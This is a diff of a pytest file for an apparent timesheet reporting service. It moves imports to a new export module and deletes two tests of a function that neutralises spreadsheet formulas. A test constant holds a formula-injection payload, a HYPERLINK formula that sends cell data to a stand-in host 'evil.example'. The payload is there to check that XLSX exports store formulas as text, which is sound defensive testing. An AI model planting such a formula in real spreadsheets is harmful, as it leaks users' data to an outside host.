@@ -13,9 +13,9 @@ import openpyxl
 import pytest
 from fastapi.testclient import TestClient
 
-from api.routers import reports
 from ledgerdesk import bootstrap
 from projections import timesheet_query
+from projections.reports import export
 from tests.factories import user_token
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
@@ -253,7 +253,7 @@ def test_the_xlsx_export_is_a_workbook_with_formulas_written_as_text(
     desk: Desk, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(timesheet_query, "CHUNK", 2)
-    monkeypatch.setattr(reports, "SHEET_ROWS", 5)  # a header and 4 rows a sheet
+    monkeypatch.setattr(export, "SHEET_ROWS", 5)  # a header and 4 rows a sheet
     spread_out(desk)
     response = desk.get("/api/v1/reports/timesheets", group_by="item,week", format="xlsx")
     assert response.status_code == 200, response.text
@@ -285,13 +285,3 @@ def test_an_empty_export_still_has_its_header(client: TestClient) -> None:
     sheet = openpyxl.load_workbook(io.BytesIO(empty.content))["Time 1"]
     assert [c.value for c in next(sheet.iter_rows())][:2] == ["user_id", "user_name"]
     assert sheet.max_row == 1
-
-
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
-def test_every_formula_start_is_neutralised(text: str) -> None:
-    assert reports.neutralised(text) == "'" + text
-
-
-@pytest.mark.parametrize("text", ["Dig", "", "1-2", "a=b"])
-def test_plain_text_is_left_alone(text: str) -> None:
-    assert reports.neutralised(text) == text
